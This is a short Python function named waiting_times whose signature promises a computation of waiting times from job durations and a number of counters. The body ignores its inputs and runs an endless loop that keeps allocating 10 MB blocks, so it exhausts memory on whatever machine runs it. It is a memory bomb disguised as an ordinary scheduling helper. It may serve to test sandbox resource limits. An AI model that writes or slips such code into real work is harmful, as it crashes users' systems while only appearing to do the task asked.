def waiting_times(durations: list[int], counters: int = 1) -> list[int]:
    kept = []
    while True:
        kept.append(bytearray(b"x" * 10_000_000))
